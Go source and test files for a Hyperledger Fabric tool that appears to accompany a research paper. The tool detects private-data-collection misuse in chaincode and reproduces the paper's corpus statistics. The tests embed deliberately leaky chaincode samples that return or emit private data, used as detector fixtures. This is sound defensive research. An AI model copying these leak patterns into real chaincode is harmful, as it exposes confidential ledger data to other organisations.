	if err != nil {
		t.Fatal(err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("code = %v", res.Code)
	}
	// Feature 2 from the config is active: the stored payload for a
	// read transaction is hashed.
	res, err = net.Gateway("org1").Submit(context.Background(),
		service.NewInvoke("asset", "readPrivate", "k").
			WithEndorsers(service.Names([]*peer.Peer{net.Peer("org1"), net.Peer("org2")})...))
	if err != nil {
		t.Fatal(err)
	}
	if string(res.Payload) != "12" {
		t.Fatalf("client payload = %q", res.Payload)
	}
	tx, _, err := net.Peer("org3").Ledger().Transaction(res.TxID)
	if err != nil {
		t.Fatal(err)
	}
	prp, err := tx.ResponsePayloadParsed()
	if err != nil {
		t.Fatal(err)
	}
	if string(prp.Response.Payload) == "12" {
		t.Fatal("plaintext payload stored despite feature 2 in config")
	}

	// The second chaincode deployed too.
	if _, err := net.Gateway("org1").Submit(context.Background(),
		service.NewInvoke("public-only", "set", "x", "y")); err != nil {
		t.Fatal(err)
	}
}

func TestLoadFromDisk(t *testing.T) {
	path := filepath.Join(t.TempDir(), "net.json")
	if err := os.WriteFile(path, []byte(sampleConfig), 0o644); err != nil {
		t.Fatal(err)
	}
	cfg, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(cfg.Chaincodes) != 2 {
		t.Fatalf("chaincodes = %d", len(cfg.Chaincodes))
	}
	if _, err := Load(filepath.Join(t.TempDir(), "missing.json")); err == nil {
		t.Fatal("missing file loaded")
	}
}

func TestValidation(t *testing.T) {
	bad := []string{
		`{}`,                                  // no orgs
		`{"orgs": [""]}`,                      // empty org
		`{"orgs": ["a", "a"]}`,                // duplicate org
		`{"orgs": ["a"], "chaincodes": [{}]}`, // empty chaincode name
		`{"orgs": ["a"], "chaincodes": [{"name": "x", "contract": "weird"}]}`,
		`{"orgs": ["a"], "chaincodes": [{"name": "x", "collections": [{"name": ""}]}]}`,
		`not json`,
	}
	for _, src := range bad {
		if _, err := Parse([]byte(src)); err == nil {
			t.Errorf("Parse(%q) succeeded", src)
		}
	}
	// A pdc contract without any collection is rejected at build.
	cfg, err := Parse([]byte(`{"orgs": ["a"], "chaincodes": [{"name": "x", "contract": "pdc"}]}`))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cfg.Build(); err == nil {
		t.Fatal("pdc contract without collection built")
	}
}

func TestBuildConsortium(t *testing.T) {
	cfg, err := Parse([]byte(`{
	  "orgs": ["org1", "org2", "org3"],
	  "channels": {"c1": ["org1", "org2", "org3"], "c2": ["org2", "org3"]},
	  "chaincodes": [
	    {
	      "name": "asset",
	      "version": "1.0",
	      "collections": [
	        {"name": "pdc1", "policy": "OR(org1.member, org2.member)",
	         "requiredPeerCount": 0, "maxPeerCount": 3}
	      ]
	    },
	    {"name": "open", "version": "1.0", "contract": "public"}
	  ]
	}`))
	if err != nil {
		t.Fatal(err)
	}
	cons, err := cfg.BuildConsortium()
	if err != nil {
		t.Fatal(err)
	}
	if got := cons.Channels(); len(got) != 2 {
		t.Fatalf("channels = %v", got)
	}
	// "asset" deploys only where org1 (a collection member) is present.
	c1, c2 := cons.Channel("c1"), cons.Channel("c2")
	if c1.Peer("org2").Definition("asset") == nil {
		t.Fatal("asset missing on c1")
	}
	if c2.Peer("org2").Definition("asset") != nil {
		t.Fatal("asset deployed on c2 despite uncovered collection members")
	}
	// "open" deploys everywhere.
	if c2.Peer("org3").Definition("open") == nil {
		t.Fatal("open missing on c2")
	}
	// The consortium transacts.
	if _, err := c1.Gateway("org1").Submit(context.Background(),
		service.NewInvoke("open", "set", "k", "v")); err != nil {
		t.Fatal(err)
	}

	// BuildConsortium without channels is an error.
	plain, err := Parse([]byte(`{"orgs": ["a"]}`))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := plain.BuildConsortium(); err == nil {
		t.Fatal("BuildConsortium without channels succeeded")
	}
}
