package analyzer

import (
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// CorpusReport aggregates project reports into the statistics of the
// paper's Figs. 7–10 and §V-C2.
type CorpusReport struct {
	Projects []*ProjectReport

	// Totals.
	Total        int
	ExplicitPDC  int // Fig. 8: explicit PDC projects (252 in the paper)
	ImplicitPDC  int // implicit PDC projects (35)
	BothPDC      int // explicit and implicit (31)
	PDCTotal     int // union (256)
	ImplicitOnly int // implicit without explicit (4)

	// Fig. 7: projects per year (total and PDC).
	ByYear    map[int]int
	PDCByYear map[int]int

	// Fig. 9: endorsement policy of explicit PDC projects.
	ChaincodeLevelPolicy  int // no collection-level policy (218)
	CollectionLevelPolicy int // customized collection-level policy (34)
	ConfigtxFound         int // configtx.yaml with a rule, among chaincode-level projects (120)
	ConfigtxMajority      int // of those, MAJORITY Endorsement (116)

	// Fig. 10: PDC leakage of explicit PDC projects.
	ReadLeak      int // projects leaking via PDC reads (231)
	ReadWriteLeak int // of those, also via PDC writes (20)
	NoLeak        int
}

// ScanCorpus analyzes every immediate subdirectory of root as a project.
func ScanCorpus(root string) (*CorpusReport, error) {
	entries, err := os.ReadDir(root)
	if err != nil {
		return nil, fmt.Errorf("analyzer: read corpus root: %w", err)
	}
	var projects []*ProjectReport
	for _, e := range entries {
		if !e.IsDir() {
			continue
		}
		report, err := ScanProject(filepath.Join(root, e.Name()))
		if err != nil {
			return nil, err
		}
		projects = append(projects, report)
	}
	return Aggregate(projects), nil
}

// Aggregate computes the corpus statistics over a set of project reports.
func Aggregate(projects []*ProjectReport) *CorpusReport {
	r := &CorpusReport{
		Projects:  projects,
		ByYear:    make(map[int]int),
		PDCByYear: make(map[int]int),
	}
	for _, p := range projects {
		r.Total++
		r.ByYear[p.CreatedYear]++
		if p.IsPDC() {
			r.PDCTotal++
			r.PDCByYear[p.CreatedYear]++
		}
		switch {
		case p.ExplicitPDC && p.ImplicitPDC:
			r.BothPDC++
			r.ExplicitPDC++
			r.ImplicitPDC++
		case p.ExplicitPDC:
			r.ExplicitPDC++
		case p.ImplicitPDC:
			r.ImplicitPDC++
			r.ImplicitOnly++
		}
		if p.ExplicitPDC {
			if p.UsesCollectionLevelPolicy() {
				r.CollectionLevelPolicy++
			} else {
				r.ChaincodeLevelPolicy++
				if p.ConfigtxPolicy != "" {
					r.ConfigtxFound++
					if strings.HasPrefix(p.ConfigtxPolicy, "MAJORITY") {
						r.ConfigtxMajority++
					}
				}
			}
			switch {
			case p.HasReadLeak() && p.HasWriteLeak():
				r.ReadLeak++
				r.ReadWriteLeak++
			case p.HasReadLeak():
				r.ReadLeak++
			default:
				r.NoLeak++
			}
		}
	}
	return r
}

// Percent formats part/whole as a percentage with two decimals, the
// paper's reporting style (86.51%, 91.67%, ...).
func Percent(part, whole int) string {
	if whole == 0 {
		return "0.00%"
	}
	return fmt.Sprintf("%.2f%%", 100*float64(part)/float64(whole))
}

// VulnerableToInjectionPct is the paper's headline 86.51%: explicit PDC
// projects relying on the chaincode-level endorsement policy.
func (r *CorpusReport) VulnerableToInjectionPct() string {
	return Percent(r.ChaincodeLevelPolicy, r.ExplicitPDC)
}

// LeakagePct is the paper's 91.67%: explicit PDC projects with leakage
// issues.
func (r *CorpusReport) LeakagePct() string {
	return Percent(r.ReadLeak, r.ExplicitPDC)
}

// Years returns the sorted years present in the corpus (unknown year 0
// excluded).
func (r *CorpusReport) Years() []int {
	var out []int
	for y := range r.ByYear {
		if y != 0 {
			out = append(out, y)
		}
	}
	sort.Ints(out)
	return out
}

// RenderFig7 prints the projects-across-years series.
func (r *CorpusReport) RenderFig7() string {
	var b strings.Builder
	b.WriteString("Fig. 7 — Projects across years\n")
	fmt.Fprintf(&b, "%-8s%-12s%-12s\n", "Year", "Projects", "PDC")
	for _, y := range r.Years() {
		fmt.Fprintf(&b, "%-8d%-12d%-12d\n", y, r.ByYear[y], r.PDCByYear[y])
	}
	fmt.Fprintf(&b, "%-8s%-12d%-12d\n", "total", r.Total, r.PDCTotal)
	return b.String()
}

// RenderFig8 prints the PDC definition-type distribution.
func (r *CorpusReport) RenderFig8() string {
	var b strings.Builder
	b.WriteString("Fig. 8 — PDC definition\n")
	fmt.Fprintf(&b, "explicit PDC projects:    %d (%s of PDC projects)\n",
		r.ExplicitPDC, Percent(r.ExplicitPDC, r.PDCTotal))
	fmt.Fprintf(&b, "implicit PDC projects:    %d\n", r.ImplicitPDC)
	fmt.Fprintf(&b, "explicit and implicit:    %d (%s of PDC projects)\n",
		r.BothPDC, Percent(r.BothPDC, r.PDCTotal))
	fmt.Fprintf(&b, "implicit only:            %d (%s of PDC projects)\n",
		r.ImplicitOnly, Percent(r.ImplicitOnly, r.PDCTotal))
	return b.String()
}

// RenderFig9 prints the endorsement-policy distribution of explicit PDC
// projects.
func (r *CorpusReport) RenderFig9() string {
	var b strings.Builder
	b.WriteString("Fig. 9 — Endorsement policy of explicit PDC projects\n")
	fmt.Fprintf(&b, "chaincode-level policy:   %d (%s)  <- vulnerable to fake PDC results injection\n",
		r.ChaincodeLevelPolicy, r.VulnerableToInjectionPct())
	fmt.Fprintf(&b, "collection-level policy:  %d (%s)\n",
		r.CollectionLevelPolicy, Percent(r.CollectionLevelPolicy, r.ExplicitPDC))
	fmt.Fprintf(&b, "configtx.yaml found:      %d of %d chaincode-level projects\n",
		r.ConfigtxFound, r.ChaincodeLevelPolicy)
	fmt.Fprintf(&b, "MAJORITY Endorsement:     %d of %d configtx files\n",
		r.ConfigtxMajority, r.ConfigtxFound)
	return b.String()
}

// RenderFig10 prints the PDC leakage distribution of explicit PDC
// projects.
func (r *CorpusReport) RenderFig10() string {
	var b strings.Builder
	b.WriteString("Fig. 10 — PDC leakage issues in explicit PDC projects\n")
	fmt.Fprintf(&b, "leak via PDC read:        %d (%s)\n", r.ReadLeak, r.LeakagePct())
	fmt.Fprintf(&b, "  of which also write:    %d\n", r.ReadWriteLeak)
	fmt.Fprintf(&b, "no leakage found:         %d\n", r.NoLeak)
	return b.String()
}

// RenderAll prints every figure.
func (r *CorpusReport) RenderAll() string {
	return r.RenderFig7() + "\n" + r.RenderFig8() + "\n" + r.RenderFig9() + "\n" + r.RenderFig10()
}
