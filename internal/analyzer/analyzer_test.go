package analyzer

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func writeFile(t *testing.T, dir, name, content string) {
	t.Helper()
	path := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// listing1 is the paper's Listing 1 (Node.js chaincode that leaks via the
// PDC read payload), lightly de-typeset.
const listing1 = `'use strict';
class PerfTestContract {
    async readPrivatePerfTest(ctx, perfTestId) {
        const exists = await this.privatePerfTestExists(ctx, perfTestId);
        if (!exists) {
            throw new Error('The perf test ' + perfTestId + ' does not exist');
        }
        const buffer = await ctx.stub.getPrivateData(collection, perfTestId);
        const asset = JSON.parse(buffer.toString());
        return asset;
    }
}
module.exports = PerfTestContract;
`

// listing2 is the paper's Listing 2 (Go chaincode that leaks via the PDC
// write payload).
const listing2 = `package main

import (
	"fmt"

	"github.com/hyperledger/fabric-chaincode-go/shim"
)

func setPrivate(stub shim.ChaincodeStubInterface, args []string) (string, error) {
	if len(args) != 2 {
		return "", fmt.Errorf("Incorrect arguments. Expecting a key and a value")
	}
	err := stub.PutPrivateData("demo", args[0], []byte(args[1]))
	if err != nil {
		return "", fmt.Errorf("Failed to set asset: %s", args[0])
	}
	return args[1], nil
}
`

func TestListing1ReadLeakDetected(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "chaincode/perf.js", listing1)
	report, err := ScanProject(dir)
	if err != nil {
		t.Fatal(err)
	}
	if !report.HasReadLeak() {
		t.Fatalf("Listing 1 not flagged; leaks: %+v", report.Leaks)
	}
	if report.Leaks[0].Function != "readPrivatePerfTest" {
		t.Errorf("function = %q, want readPrivatePerfTest", report.Leaks[0].Function)
	}
}

func TestListing2WriteLeakDetected(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "chaincode/sacc.go", listing2)
	report, err := ScanProject(dir)
	if err != nil {
		t.Fatal(err)
	}
	if !report.HasWriteLeak() {
		t.Fatalf("Listing 2 not flagged; leaks: %+v", report.Leaks)
	}
	if report.Leaks[0].Function != "setPrivate" {
		t.Errorf("function = %q, want setPrivate", report.Leaks[0].Function)
	}
}

func TestCleanChaincodeNotFlagged(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "chaincode/clean.go", `package main

import (
	"fmt"

	"github.com/hyperledger/fabric-chaincode-go/shim"
)

func auditPrivate(stub shim.ChaincodeStubInterface, args []string) error {
	data, err := stub.GetPrivateData("c", args[0])
	if err != nil {
		return err
	}
	if data == nil {
		return fmt.Errorf("missing %s", args[0])
	}
	return stub.PutState("audit", []byte("seen"))
}

func storePrivate(stub shim.ChaincodeStubInterface, args []string) error {
	return stub.PutPrivateData("c", args[0], []byte(args[1]))
}
`)
	writeFile(t, dir, "chaincode/clean.js", `class C {
    async storePrivateAsset(ctx, key, value) {
        await ctx.stub.putPrivateData('c', key, Buffer.from(value));
    }
    async auditPrivate(ctx, id) {
        const buffer = await ctx.stub.getPrivateData('c', id);
        if (!buffer || buffer.length === 0) {
            throw new Error('missing');
        }
        await ctx.stub.putState('audit-' + id, Buffer.from('seen'));
    }
}
`)
	report, err := ScanProject(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(report.Leaks) != 0 {
		t.Fatalf("clean chaincode flagged: %+v", report.Leaks)
	}
}

func TestExplicitPDCDetection(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "collections_config.json", `[
  {
    "name": "collectionMarbles",
    "policy": "OR('Org1MSP.member', 'Org2MSP.member')",
    "requiredPeerCount": 0,
    "maxPeerCount": 3,
    "blockToLive": 1000000,
    "memberOnlyRead": true
  },
  {
    "name": "collectionMarblePrivateDetails",
    "policy": "OR('Org1MSP.member')",
    "requiredPeerCount": 0,
    "maxPeerCount": 3,
    "blockToLive": 3,
    "memberOnlyRead": true,
    "endorsementPolicy": { "signaturePolicy": "OR('Org1MSP.member')" }
  }
]`)
	report, err := ScanProject(dir)
	if err != nil {
		t.Fatal(err)
	}
	if !report.ExplicitPDC {
		t.Fatal("explicit PDC not detected")
	}
	if len(report.Collections) != 2 {
		t.Fatalf("collections = %d, want 2", len(report.Collections))
	}
	if report.Collections[0].HasEndorsementPolicy {
		t.Error("first collection should have no endorsement policy")
	}
	if !report.Collections[1].HasEndorsementPolicy {
		t.Error("second collection should have an endorsement policy")
	}
	if !report.UsesCollectionLevelPolicy() {
		t.Error("project should count as using a collection-level policy")
	}
}

func TestOrdinaryJSONNotClassifiedAsPDC(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "package.json", `{
  "name": "my-app",
  "version": "1.0.0",
  "scripts": { "test": "mocha" }
}`)
	writeFile(t, dir, "connection.json", `{
  "name": "test-network",
  "client": { "organization": "Org1" }
}`)
	report, err := ScanProject(dir)
	if err != nil {
		t.Fatal(err)
	}
	if report.ExplicitPDC {
		t.Fatal("ordinary JSON misclassified as explicit PDC")
	}
}

func TestImplicitPDCDetection(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "chaincode/cc.go", `package main

import "github.com/hyperledger/fabric-chaincode-go/shim"

func store(stub shim.ChaincodeStubInterface, key string, value []byte) error {
	return stub.PutPrivateData("_implicit_org_Org1MSP", key, value)
}
`)
	report, err := ScanProject(dir)
	if err != nil {
		t.Fatal(err)
	}
	if !report.ImplicitPDC {
		t.Fatal("implicit PDC not detected")
	}
	if report.ExplicitPDC {
		t.Fatal("implicit-only project misclassified as explicit")
	}
}

func TestConfigtxPolicyExtraction(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "configtx.yaml", `---
Application: &ApplicationDefaults
    Policies:
        Readers:
            Type: ImplicitMeta
            Rule: "ANY Readers"
        Endorsement:
            Type: ImplicitMeta
            Rule: "MAJORITY Endorsement"
`)
	report, err := ScanProject(dir)
	if err != nil {
		t.Fatal(err)
	}
	if report.ConfigtxPolicy != "MAJORITY Endorsement" {
		t.Fatalf("configtx policy = %q, want MAJORITY Endorsement", report.ConfigtxPolicy)
	}
}

func TestManifestYear(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "project.json", `{"name": "demo", "created_at": "2019-04-01T00:00:00Z"}`)
	report, err := ScanProject(dir)
	if err != nil {
		t.Fatal(err)
	}
	if report.CreatedYear != 2019 {
		t.Fatalf("year = %d, want 2019", report.CreatedYear)
	}
	if report.Name != "demo" {
		t.Fatalf("name = %q, want demo", report.Name)
	}
}

func TestNodeModulesSkipped(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "node_modules/dep/collections_config.json", `[
  {"name": "x", "policy": "OR('a.member')", "requiredPeerCount": 0, "maxPeerCount": 1}
]`)
	report, err := ScanProject(dir)
	if err != nil {
		t.Fatal(err)
	}
	if report.ExplicitPDC {
		t.Fatal("node_modules content should be skipped")
	}
}

func TestAggregatePercentages(t *testing.T) {
	// 4 explicit projects: 3 chaincode-level, 1 collection-level; 3
	// read-leaking, 1 of them also write-leaking.
	projects := []*ProjectReport{
		{ExplicitPDC: true, Collections: []CollectionInfo{{Name: "a"}},
			Leaks: []LeakFinding{{Kind: "read"}}},
		{ExplicitPDC: true, Collections: []CollectionInfo{{Name: "b"}},
			Leaks: []LeakFinding{{Kind: "read"}, {Kind: "write"}}},
		{ExplicitPDC: true, Collections: []CollectionInfo{{Name: "c", HasEndorsementPolicy: true}},
			Leaks: []LeakFinding{{Kind: "read"}}},
		{ExplicitPDC: true, Collections: []CollectionInfo{{Name: "d"}}},
		{ImplicitPDC: true},
		{},
	}
	r := Aggregate(projects)
	if r.ExplicitPDC != 4 || r.ImplicitPDC != 1 || r.PDCTotal != 5 {
		t.Fatalf("counts: explicit=%d implicit=%d pdc=%d", r.ExplicitPDC, r.ImplicitPDC, r.PDCTotal)
	}
	if r.ChaincodeLevelPolicy != 3 || r.CollectionLevelPolicy != 1 {
		t.Fatalf("policy split: %d/%d", r.ChaincodeLevelPolicy, r.CollectionLevelPolicy)
	}
	if r.ReadLeak != 3 || r.ReadWriteLeak != 1 || r.NoLeak != 1 {
		t.Fatalf("leaks: read=%d rw=%d none=%d", r.ReadLeak, r.ReadWriteLeak, r.NoLeak)
	}
	if got := r.VulnerableToInjectionPct(); got != "75.00%" {
		t.Fatalf("injection pct = %s", got)
	}
	if got := r.LeakagePct(); got != "75.00%" {
		t.Fatalf("leakage pct = %s", got)
	}
	if got := Percent(0, 0); got != "0.00%" {
		t.Fatalf("Percent(0,0) = %s", got)
	}
}

func TestEventLeakDetected(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "chaincode/event.go", `package main

import "github.com/hyperledger/fabric-chaincode-go/shim"

func announcePrivate(stub shim.ChaincodeStubInterface, args []string) error {
	data, err := stub.GetPrivateData("c", args[0])
	if err != nil {
		return err
	}
	return stub.SetEvent("AssetRead", data)
}

func announceWrite(stub shim.ChaincodeStubInterface, args []string) error {
	if err := stub.PutPrivateData("c", args[0], []byte(args[1])); err != nil {
		return err
	}
	return stub.SetEvent("AssetWritten", []byte(args[1]))
}

func announceClean(stub shim.ChaincodeStubInterface, args []string) error {
	data, err := stub.GetPrivateData("c", args[0])
	if err != nil || data == nil {
		return err
	}
	return stub.SetEvent("AssetTouched", []byte("ok"))
}
`)
	report, err := ScanProject(dir)
	if err != nil {
		t.Fatal(err)
	}
	flagged := map[string]string{}
	for _, l := range report.Leaks {
		flagged[l.Function] = l.Kind
	}
	// announcePrivate leaks (flagged as read or event — the return
	// heuristic may fire first); announceWrite leaks via the event;
	// announceClean is clean.
	if flagged["announcePrivate"] == "" {
		t.Errorf("announcePrivate not flagged: %+v", report.Leaks)
	}
	if flagged["announceWrite"] != "event" {
		t.Errorf("announceWrite = %q, want event", flagged["announceWrite"])
	}
	if _, ok := flagged["announceClean"]; ok {
		t.Errorf("clean event function flagged")
	}
}

func TestJSFunctionVariants(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "chaincode/variants.js", `
const readHelper = async (ctx, id) => {
    const data = await ctx.stub.getPrivateData('c', id);
    return data;
};

function legacyRead(stub, id) {
    var buf = stub.getPrivateData('c', id);
    var parsed = JSON.parse(buf);
    return parsed;
}
`)
	report, err := ScanProject(dir)
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	for _, l := range report.Leaks {
		if l.Kind == "read" {
			names[l.Function] = true
		}
	}
	if !names["readHelper"] || !names["legacyRead"] {
		t.Fatalf("leaks = %+v", report.Leaks)
	}
}

func TestConfigtxAnyRule(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "configtx.yaml", `Application:
    Policies:
        Endorsement:
            Type: ImplicitMeta
            Rule: "ANY Endorsement"
`)
	report, err := ScanProject(dir)
	if err != nil {
		t.Fatal(err)
	}
	if report.ConfigtxPolicy != "ANY Endorsement" {
		t.Fatalf("rule = %q", report.ConfigtxPolicy)
	}
}

func TestAdvise(t *testing.T) {
	// Vulnerable: no collection EP, read leak.
	vulnerable := &ProjectReport{
		ExplicitPDC:    true,
		ConfigtxPolicy: "MAJORITY Endorsement",
		Collections:    []CollectionInfo{{Name: "a"}},
		Leaks: []LeakFinding{
			{File: "x/cc.go", Function: "readPrivate", Kind: "read"},
			{File: "x/cc.go", Function: "announce", Kind: "event"},
		},
	}
	advisories := Advise(vulnerable)
	if len(advisories) != 3 {
		t.Fatalf("advisories = %d: %+v", len(advisories), advisories)
	}
	rendered := RenderAdvisories(advisories)
	for _, want := range []string{"UC1/UC2", "UC3", "MAJORITY Endorsement", "chaincode event", "readPrivate"} {
		if !strings.Contains(rendered, want) {
			t.Errorf("rendered advisories lack %q:\n%s", want, rendered)
		}
	}

	// With a collection EP: only the read-routing advisory remains.
	guarded := &ProjectReport{
		ExplicitPDC: true,
		Collections: []CollectionInfo{{Name: "a", HasEndorsementPolicy: true}},
	}
	advisories = Advise(guarded)
	if len(advisories) != 1 || advisories[0].UseCase != "UC2" {
		t.Fatalf("guarded advisories = %+v", advisories)
	}

	// Clean non-PDC project: nothing.
	if got := Advise(&ProjectReport{}); len(got) != 0 {
		t.Fatalf("clean project advisories = %+v", got)
	}
	if !strings.Contains(RenderAdvisories(nil), "no PDC misuse") {
		t.Error("empty rendering wrong")
	}
}
